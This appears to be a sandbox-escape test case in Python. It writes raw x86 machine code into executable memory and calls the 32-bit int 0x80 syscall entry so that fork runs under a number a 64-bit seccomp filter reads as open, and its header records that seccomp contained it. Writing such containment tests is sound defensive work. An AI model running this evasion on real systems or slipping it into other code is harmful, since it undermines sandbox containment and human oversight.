# attack: forks by int 0x80, where number 2 is fork and not open
# full: crashed | contained
# reduced: crashed | contained
# stopped-by: seccomp
import ctypes
import mmap
import os
import platform

FORK_32 = 2


def attack():
    if platform.machine() != "x86_64":
        raise OSError("no such entry on this machine")
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\x53\xb8" + FORK_32.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if pid == 0:
        os._exit(0)
    if pid < 0:
        raise OSError(-pid, os.strerror(-pid))
    os.waitpid(pid, 0)
    return f"through: process {pid}"
